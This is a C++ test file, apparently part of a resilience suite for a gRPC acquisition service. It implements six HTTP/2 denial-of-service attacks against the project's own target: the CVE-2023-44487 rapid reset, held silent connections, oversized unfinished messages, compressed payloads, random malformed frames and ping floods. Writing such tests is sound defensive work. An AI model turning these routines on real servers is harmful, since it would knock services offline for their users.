#include <deque>

#include "absl/time/clock.h"
#include "tests/attack/attacks.h"
#include "tests/fault/http2_frames.h"
#include "tests/fault/raw_connection.h"

namespace isocenter::testing {
namespace {

constexpr char kAcquire[] = "/isocenter.v1.AcquisitionService/Acquire";

std::string Token(Chance& chance) {
  return chance.OneIn(2) ? "" : Target::Token(Role::kOtherConsole);
}

void SilentConnections(const Target& target, Chance& chance) {
  std::deque<RawConnection> held;
  for (int i = 0; i < 400; ++i) {
    held.emplace_back(target.grpc_port(), kAttacker);
    if (chance.OneIn(2)) held.back().Send(Http2Opening());
  }
  absl::SleepFor(absl::Seconds(kHoldSeconds));
}

// CVE-2023-44487: calls that are begun and reset at once.
void RapidReset(const Target& target, Chance& chance) {
  RawConnection connection(target.grpc_port(), kAttacker);
  connection.Send(Http2Opening());
  const std::string token = Token(chance);
  const absl::Time end = absl::Now() + absl::Seconds(kHoldSeconds);
  for (uint32_t stream = 1; absl::Now() < end;) {
    std::string bytes;
    for (int i = 0; i < 500; ++i, stream += 2) bytes += ResetCall(stream, kAcquire, token);
    if (!connection.Send(bytes)) return;
  }
}

// A message that claims a frame's size, on many streams of many connections, of which little comes.
void UnfinishedMessages(const Target& target, Chance& chance) {
  std::deque<RawConnection> held;
  for (int i = 0; i < 40; ++i) {
    held.emplace_back(target.grpc_port(), kAttacker);
    std::string bytes = Http2Opening();
    for (uint32_t stream = 1; stream < 40; stream += 2) {
      bytes += CallHeaders(stream, kAcquire, Token(chance));
      bytes += MessageBeginning(stream, 60 << 20, RandomBytes(chance, 2000));
    }
    held.back().Send(bytes);
  }
  absl::SleepFor(absl::Seconds(kHoldSeconds));
}

void CompressedMessages(const Target& target, Chance& chance) {
  RawConnection connection(target.grpc_port(), kAttacker);
  std::string bytes = Http2Opening();
  for (uint32_t stream = 1; stream < 60; stream += 2) {
    const std::string message = RandomBytes(chance, 4000);
    bytes += CallHeaders(stream, kAcquire, Token(chance));
    bytes += MessageBeginning(stream, static_cast<uint32_t>(message.size()), message, true);
  }
  connection.Send(bytes);
  connection.Read();
}

void RandomFrames(const Target& target, Chance& chance) {
  for (int i = 0; i < 100; ++i) {
    RawConnection connection(target.grpc_port(), kAttacker);
    std::string bytes = chance.OneIn(5) ? RandomBytes(chance, 2000) : Http2Opening();
    for (int frame = 0; frame < 20; ++frame) {
      bytes += Http2Frame(static_cast<char>(chance.Integer(0, 11)),
                          static_cast<char>(chance.Integer(0, 255)),
                          static_cast<uint32_t>(chance.Integer(0, 8)), RandomBytes(chance, 300));
    }
    connection.Send(bytes);
    if (chance.OneIn(3)) connection.Read();
  }
}

void PingsWithoutEnd(const Target& target, Chance&) {
  RawConnection connection(target.grpc_port(), kAttacker);
  std::string pings;
  for (int i = 0; i < 1000; ++i) pings += Http2Frame(kPing, 0, 0, "12345678");
  connection.Send(Http2Opening());
  for (int i = 0; i < 100; ++i) {
    if (!connection.Send(pings)) return;
  }
}

}  // namespace

std::vector<Attack> Http2Attacks() {
  return {{"silent connections", SilentConnections},
          {"rapid reset", RapidReset},
          {"unfinished messages", UnfinishedMessages},
          {"compressed messages", CompressedMessages},
          {"random frames", RandomFrames},
          {"pings without end", PingsWithoutEnd}};
}

}  // namespace isocenter::testing
